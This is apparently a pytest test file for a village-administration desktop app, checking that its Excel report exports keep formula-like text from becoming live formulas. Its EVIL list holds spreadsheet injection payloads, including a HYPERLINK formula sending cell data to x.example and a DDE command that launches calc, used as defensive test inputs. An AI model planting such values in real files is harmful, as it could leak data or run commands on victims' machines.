"""No formula can be smuggled into a workbook (issue 15 item 9).

Every workbook the program writes is filled from the demo village with every text field
replaced by a value a spreadsheet would read as a formula (`=…`, `+…`, `-…`, `@…`) or
that an `.xlsx` cannot hold (control characters, a lone surrogate). Each export must
finish, keep those values as text cells, and hold no formula but the program's own totals
(cell references, SUM, IF and arithmetic only).
"""

from __future__ import annotations

import dataclasses
import re
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update

from pesiar_desktop import demo
from pesiar_desktop.db import Database, open_database
from pesiar_desktop.models import Assignment, Family, Registration, Resident
from pesiar_desktop.reportdata.dana_desa import DanaDesaData
from pesiar_desktop.reports import (
    dana_desa_xlsx,
    fees_xlsx,
    import_report_xlsx,
    letter_register_xlsx,
    proposal_xlsx,
    recap_xlsx,
    worksheet_xlsx,
)
from pesiar_desktop.reports.workbook import MAX_CELL_TEXT, clean_text, new_workbook
from pesiar_desktop.services import fees, letters, recap, registrations, targets, village
from pesiar_desktop.services import visit_plans as plans
from pesiar_desktop.services.context import SYSTEM

TODAY = date(2026, 11, 23)
EVIL = (
    '=HYPERLINK("http://x.example/?q="&A1,"klik")',
    "+62 812 3456",
    "-2+3",
    "@SUM(1,2)",
    "=1+1\x07\x00\x1b\x0b",
    "\ud800=CMD|' /C calc'!A0",
)
# A formula the program writes itself: cell references, numbers, SUM/IF, arithmetic.
OWN_FORMULA = re.compile(r"=[A-Z0-9$:(),+\-*/<>=. ]*")
UNWRITABLE = re.compile("[\x00-\x08\x0b-\x1f\ud800-\udfff]")
# Fields that carry a date-like key the writer parses, not free text.
KEEP = {"key", "columns"}


def poison(value: Any, counter: Iterator[int]) -> Any:
    """The same data with every free-text string replaced by a formula-looking value."""
    if isinstance(value, str):
        return EVIL[next(counter) % len(EVIL)] + value
    if isinstance(value, list):
        return [poison(v, counter) for v in value]
    if isinstance(value, tuple):
        return tuple(poison(v, counter) for v in value)
    if dataclasses.is_dataclass(value) and not isinstance(value, type):
        changes = {
            f.name: poison(getattr(value, f.name), counter)
            for f in dataclasses.fields(value)
            if f.init and f.name not in KEEP
        }
        return dataclasses.replace(value, **changes)
    return value


def _counter() -> Iterator[int]:
    n = 0
    while True:
        yield n
        n += 1


def check_workbook(path: Path) -> set[str]:
    """Every formula is the program's own; returns the text cells' values."""
    book = load_workbook(path)
    texts: set[str] = set()
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert OWN_FORMULA.fullmatch(str(cell.value)), (ws.title, cell.coordinate)
                    assert "HYPERLINK" not in str(cell.value)
                elif isinstance(cell.value, str):
                    assert not UNWRITABLE.search(cell.value), (ws.title, cell.coordinate)
                    texts.add(cell.value)
    return texts


def assert_evil_kept_as_text(texts: set[str], kinds: int = len(EVIL)) -> None:
    """Each kind of smuggled value reached the workbook, as text."""
    for evil in EVIL[:kinds]:
        start = clean_text(evil)[:6]
        assert any(t.startswith(start) for t in texts), f"no text cell starts with {start!r}"


@pytest.fixture(scope="module")
def demo_db(tmp_path_factory) -> Iterator[Database]:
    folder = tmp_path_factory.mktemp("demo")
    db = open_database(f"sqlite:///{folder}/demo.db", backup_dir=folder / "backups")
    demo.generate(db, SYSTEM, residents=300, seed=7, today=TODAY)
    yield db
    db.dispose()


def test_targets_export_keeps_smuggled_names_as_text(demo_db, tmp_path):
    with demo_db.transaction() as session:
        ids = list(session.scalars(select(Resident.id).order_by(Resident.id)))
        for number, resident_id in enumerate(ids):
            evil = EVIL[number % len(EVIL)].replace("\ud800", "").replace("\x00", "")
            session.execute(
                update(Resident).where(Resident.id == resident_id).values(name=evil + "BUDI")
            )
        session.execute(update(Family).values(address='=HYPERLINK("http://x","y")'))
    path = targets.export_targets_xlsx(demo_db, SYSTEM, tmp_path / "sasaran.xlsx")
    texts = check_workbook(path)
    assert any(t.startswith('=HYPERLINK("http://x.example') for t in texts)
    for start in ("+62 812", "-2+3", "@SUM(1,2)", "=1+1"):
        assert any(t.startswith(start) for t in texts), start


def test_proposal_and_employer_reports(demo_db, tmp_path):
    with demo_db.read() as session:
        ids = list(session.scalars(select(Registration.id).order_by(Registration.id)))
        details = [registrations.detail_in(session, i) for i in ids]
    assert details
    evil = poison(details, _counter())
    path, people = proposal_xlsx.write_proposal_xlsx(
        evil, {d.family_id: 2 for d in evil}, tmp_path / "usulan.xlsx", village_title=EVIL[0]
    )
    assert people > 0
    assert_evil_kept_as_text(check_workbook(path))
    path, _ = proposal_xlsx.write_employer_report_xlsx(
        evil, tmp_path / "ppu.xlsx", village_title=EVIL[3]
    )
    assert_evil_kept_as_text(check_workbook(path))


def test_worksheet_workbook(demo_db, tmp_path):
    with demo_db.read() as session:
        assignment_id = session.scalars(select(Assignment.id).order_by(Assignment.id)).first()
    plan = plans.plan_view(demo_db, assignment_id, TODAY)
    assert plan.families
    path = worksheet_xlsx.write_worksheet_xlsx(poison(plan, _counter()), tmp_path / "sisir.xlsx")
    assert_evil_kept_as_text(check_workbook(path))


def test_recap_workbook(demo_db, tmp_path):
    data = recap.build_recap(demo_db, date(2026, 10, 1), today=TODAY)
    path = recap_xlsx.write_recap_xlsx(poison(data, _counter()), tmp_path / "rekap.xlsx")
    assert_evil_kept_as_text(check_workbook(path))


def test_fee_list_and_dana_desa(demo_db, tmp_path):
    profile = village.get_profile(demo_db)
    assert profile is not None
    sheet = fees.month_sheet(demo_db, date(2026, 10, 1))
    assert sheet.lines
    path = fees_xlsx.export(
        poison(sheet, _counter()), poison(profile, _counter()), tmp_path / "honor.xlsx"
    )
    assert_evil_kept_as_text(check_workbook(path))
    with demo_db.read() as session:
        funding = recap.dana_desa_rows(session, 2026)
    data = DanaDesaData(profile, 2026, TODAY, funding)
    path = dana_desa_xlsx.write_dana_desa_xlsx(poison(data, _counter()), tmp_path / "dd.xlsx")
    assert_evil_kept_as_text(check_workbook(path))


def test_letter_register_and_import_report(demo_db, tmp_path):
    entries = [
        letter_register_xlsx.RegisterEntry(  # type: ignore[attr-defined]
            r.number,
            r.letter_date,
            r.subject,
            r.summary,
            r.reported_on,
            r.remarks,
            False,
            "",
        )
        for r in letters.register_rows(demo_db)
    ]
    assert entries
    path = letter_register_xlsx.export(
        poison(entries, _counter()), village.get_profile(demo_db), tmp_path / "buku.xlsx"
    )
    assert_evil_kept_as_text(check_workbook(path), 4)
    report = import_report_xlsx.ImportReport(
        headers=["nik", "nama"],
        rejected=[(2, EVIL[2], [EVIL[0], EVIL[4]]), (3, EVIL[1], [EVIL[5], EVIL[3]])],
        warnings=[(4, EVIL[3], EVIL[0])],
        not_in_register=[(5, EVIL[1], EVIL[2])],
        missing_from_list=[(EVIL[4], EVIL[5], EVIL[0])],
    )
    path = import_report_xlsx.write_import_report(report, tmp_path / "laporan.xlsx")
    assert_evil_kept_as_text(check_workbook(path))


def test_one_workbook_writer():
    """Only reports/workbook.py opens a workbook for writing (the others go through it)."""
    root = Path(__file__).resolve().parents[2] / "pesiar_desktop"
    pattern = re.compile(r"\bWorkbook\(|from openpyxl import Workbook|xlsxwriter\.Workbook")
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "workbook.py" and pattern.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


def test_every_string_writer_cuts_and_cleans(tmp_path):
    """The public writers and the fast by-row-and-column one (`string_at`) keep the same
    rules: text cut at Excel's 32,767-character limit, control characters removed, CR LF
    made LF, a non-text value written as its text."""
    path = tmp_path / "strings.xlsx"
    book = new_workbook(path, title="uji", constant_memory=True)
    ws = book.add_worksheet("Uji")
    values = ["a" * 40_000, "é" * 40_000, "=1+1\x07\r\nok", 12345]
    for row, value in enumerate(values):
        ws.write_string(row, 0, value)
        ws.string_at(row, 1, value)
        ws.write(row, 2, value if isinstance(value, str) else str(value))
    book.close()
    sheet = load_workbook(path).active
    got = [[sheet.cell(row + 1, column + 1).value for column in range(3)] for row in range(4)]
    expected = ["a" * MAX_CELL_TEXT, "é" * MAX_CELL_TEXT, "=1+1\nok", "12345"]
    assert got == [[text] * 3 for text in expected]
